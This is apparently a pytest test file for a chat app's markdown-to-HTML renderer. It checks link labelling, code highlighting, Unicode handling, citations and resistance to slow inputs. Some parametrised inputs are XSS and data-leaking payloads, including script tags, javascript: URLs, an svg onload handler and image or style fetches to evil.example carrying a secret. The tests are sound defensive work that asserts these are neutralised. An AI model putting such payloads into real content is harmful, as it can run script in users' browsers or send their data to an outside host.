import sys

import pytest

from memorychat.lib import highlighting
from memorychat.lib.markdown import LONGEST, LONGEST_PARAGRAPH, cited, to_html

OUTSIDE = 'target="_blank" aria-label="{}, opens a new page" rel="noopener noreferrer nofollow ugc"'


def test_plain_markdown_becomes_html() -> None:
    html = to_html("Some **bold** and `code`")
    assert html == '<p dir="auto">Some <strong>bold</strong> and <code>code</code></p>\n'


def test_code_names_its_language_and_is_coloured_by_classes() -> None:
    html = to_html("```python\nx = 1 # one\n```")
    assert html == (
        '<div class="code" data-language="Python"><pre tabindex="0" dir="ltr"><code>x = <span class="n">1</span> '
        '<span class="c"># one</span></code></pre></div>\n'
    )


@pytest.mark.parametrize("name", highlighting.LANGUAGES)
def test_every_language_that_is_named_is_known_to_the_highlighter(name: str) -> None:
    assert "<span" in highlighting.highlighted('"a" 1 // b\n# c\n- d\n<e>', name)


@pytest.mark.parametrize("info", ["", "nonsense", '"><script>', "python" * 100, "text"])
def test_code_in_an_unknown_language_stays_plain(info: str) -> None:
    assert '<code>if 1 &lt; "2"</code>' in to_html(f'```{info}\nif 1 < "2"\n```')


def test_code_that_is_long_stays_plain() -> None:
    assert "<span" not in highlighting.highlighted("x = 1\n" * highlighting.LONGEST, "python")
    assert "<span" not in highlighting.highlighted("x = 1" + "\n" * 200, "python")
    assert "<span" not in highlighting.highlighted("x = 1;" * highlighting.LONGEST_LINE, "python")


def test_what_cannot_be_seen_in_code_is_shown() -> None:
    for text in ("```\na\u202eb\n```", "`a\u202eb`", "```python\na\u202eb\n```"):
        assert 'a<span class="invisible">U+202E</span>b' in to_html(text)


def test_prose_loses_what_turns_letters_around_and_nothing_else() -> None:
    assert to_html("a\u202eb\u202dc") == '<p dir="auto">abc</p>\n'
    words = "\u0645\u06cc\u200c\u062e\u0648 👩\u200d👩\u200d👧"
    assert words in to_html(words)


def test_a_table_scrolls_by_itself_and_keeps_its_alignment() -> None:
    html = to_html("|a|b|c|\n|-|:-:|-:|\n|1|2|3|")
    assert html.startswith('<div class="wide" tabindex="0" role="group" aria-label="Table"><table>\n')
    assert '<td dir="auto">1</td>\n<td dir="auto" class="center">2</td>\n<td dir="auto" class="right">3</td>' in html


def test_headings_stand_below_those_of_the_page() -> None:
    assert to_html("# a") == '<h3 dir="auto">a</h3>\n'
    assert "<h4" in to_html("b\n-")
    assert "<h6" in to_html("###### c")


def test_lists_of_tasks_are_plain_words() -> None:
    assert to_html("- [ ] a\n- [x] b") == '<ul>\n<li dir="auto">[ ] a</li>\n<li dir="auto">[x] b</li>\n</ul>\n'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[docs](https://Example.org/a)", ("https://Example.org/a", "docs (example.org)", "docs", "example.org")),
        ("[a *b*](http://x.y:80/)", ("http://x.y:80/", "a b (x.y:80)", "a <em>b</em>", "x.y:80")),
        ("[ü](https://bücher.de)", ("https://xn--bcher-kva.de", "ü (xn--bcher-kva.de)", "ü", "xn--bcher-kva.de")),
        ("![alt](http://x.y/z.png)", ("http://x.y/z.png", "alt (x.y)", "alt", "x.y")),
        ("[![alt](http://a.b)](http://x.y)", ("http://x.y", "alt (x.y)", "alt", "x.y")),
        ("[https://a.b](https://x.y)", ("https://x.y", "https://a.b (x.y)", "https://a.b", "x.y")),
        ("[a\u202eb\u200b](https://x.y)", ("https://x.y", "ab (x.y)", "ab", "x.y")),
    ],
)
def test_a_link_says_where_it_leads(text: str, html: tuple[str, str, str, str]) -> None:
    address, name, words, place = html
    link = f'<a href="{address}" {OUTSIDE.format(name)}>{words}</a> <span class="place" dir="ltr">({place})</span>'
    assert to_html(text) == f'<p dir="auto">{link}</p>\n'


@pytest.mark.parametrize("text", ["https://a.b/c", "<https://a.b/c>", "[https://a.b/c](https://a.b/c)"])
def test_an_address_says_by_itself_where_it_leads(text: str) -> None:
    link = f'<a href="https://a.b/c" {OUTSIDE.format("https://a.b/c")}>https://a.b/c</a>'
    assert to_html(text) == f'<p dir="auto">{link}</p>\n'


def test_a_bare_address_ends_before_the_punctuation_of_its_sentence() -> None:
    html = to_html("Look (https://a.b/c_(d)), or at https://e.f.")
    assert 'href="https://a.b/c_(d)"' in html
    assert 'href="https://e.f"' in html
    assert html.endswith("</a>.</p>\n")


def test_a_mail_address_shows_to_whom() -> None:
    assert to_html("[me](mailto:a@b.c)") == (
        '<p dir="auto"><a href="mailto:a@b.c" rel="noopener noreferrer nofollow ugc">me</a> '
        '<span class="place" dir="ltr">(a@b.c)</span></p>\n'
    )


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,hi",
        "//x.y",
        "/memories/",
        "#a",
        "ftp://x.y",
        "https://bank.example@x.y",
        "https:x.y",
        "http:///x.y",
        "mailto:a@b.c?bcc=d@e.f",
        "https://x.y/" + "a" * 3000,
        "&#106;avascript:alert(1)",
    ],
)
def test_other_addresses_stay_words(address: str) -> None:
    assert "<a" not in to_html(f"[x]({address})")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "![x](https://evil.example/?q=secret)",
        "<img src=https://evil.example/?q=secret>",
        "<a href=javascript:alert(1)>x</a>",
        "<style>@import url(https://evil.example)</style>",
        "<iframe src=https://evil.example></iframe>",
        '<svg onload="alert(1)">',
    ],
)
def test_nothing_in_an_answer_runs_or_fetches(text: str) -> None:
    html = to_html(text)
    for opening in ("<script", "<img", "<style", "<iframe", "<svg", 'href="javascript', 'href="data'):
        assert opening not in html


def test_the_numbers_of_given_memories_become_marks_outside_code_and_links_alone() -> None:
    html = to_html("You live in Porto [1], `[1]`, [a [1]](https://x.y) and [7].", citations=[1])
    assert html.count('<sup class="cite">1</sup>') == 1
    assert 'Porto<sup class="cite">1</sup>, <code>[1]</code>' in html
    assert cited("[1] and [12], not [x]") == {1, 12}


def test_what_is_long_without_end_is_shown_as_it_was_written() -> None:
    assert to_html("**a** " * LONGEST).startswith('<p dir="auto">**a** **a**')
    assert "<strong>" not in to_html("**a** " * LONGEST_PARAGRAPH)


def test_what_is_nested_without_end_is_nested_so_deep_and_no_deeper() -> None:
    assert to_html(">" * 5000 + " a").count("<blockquote") <= 20
    assert to_html("".join(" " * depth * 2 + "- a\n" for depth in range(200))).count("<ul>") <= 20


@pytest.mark.parametrize("signs", ["[", "*a ", "`", "> ", "![", "[a](", "a**b", "- ", "|a", "&", "\\", "<", "_a__ "])
def test_the_work_grows_as_the_text_does(signs: str) -> None:
    """Counted in calls, which are the same on every machine."""
    half, whole = (_calls(_paragraphs(signs, size)) for size in (LONGEST_PARAGRAPH, 2 * LONGEST_PARAGRAPH))
    assert whole < 2.2 * half


def _paragraphs(signs: str, size: int) -> str:
    paragraph = (signs * LONGEST_PARAGRAPH)[: LONGEST_PARAGRAPH - 2] + "\n\n"
    return (paragraph * LONGEST)[:size]


def _calls(text: str) -> int:
    count = 0

    def tally(frame: object, event: str, argument: object) -> None:
        nonlocal count
        count += 1

    sys.setprofile(tally)
    try:
        to_html(text)
    finally:
        sys.setprofile(None)
    return count
